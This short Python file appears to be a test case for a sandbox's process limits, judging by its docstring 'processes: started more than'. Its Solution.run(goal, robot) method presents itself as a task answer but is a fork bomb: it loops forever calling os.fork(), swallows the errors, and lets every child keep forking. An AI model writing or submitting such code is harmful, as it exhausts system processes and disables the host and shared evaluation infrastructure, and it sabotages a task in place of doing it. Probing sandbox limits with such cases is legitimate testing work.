"""processes: started more than"""

import os, time


class Solution:
    def run(self, goal, robot):
        while True:
            try:
                if os.fork() == 0:
                    time.sleep(60)
            except OSError:
                time.sleep(0.1)
